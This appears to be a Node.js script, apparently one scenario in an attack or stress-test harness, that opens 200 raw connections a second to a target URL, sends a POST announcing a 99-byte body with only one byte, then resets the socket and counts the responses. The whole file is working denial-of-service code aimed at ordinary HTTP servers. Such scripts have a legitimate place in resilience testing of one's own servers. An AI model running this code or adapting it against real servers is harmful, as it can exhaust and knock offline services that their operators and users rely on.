// Requests without a token that announce a body, send a byte of it and are reset, 200 a second. The URL is that of a name.
import { connect } from 'node:net';
import { runAttack } from './attack.js';

await runAttack({
  perSecond: 200,
  strike: ({ url, count }) => {
    const { hostname, port, pathname } = new URL(url);
    const socket = connect(Number(port), hostname);
    socket.on('error', () => count('failed'));
    socket.write(`POST ${pathname} HTTP/1.1\r\nHost: ${hostname}:${port}\r\nContent-Length: 99\r\n\r\nx`);
    socket.once('data', (answer) => count(String(answer).slice(9, 12)));
    setTimeout(() => socket.resetAndDestroy(), 20);
  },
});
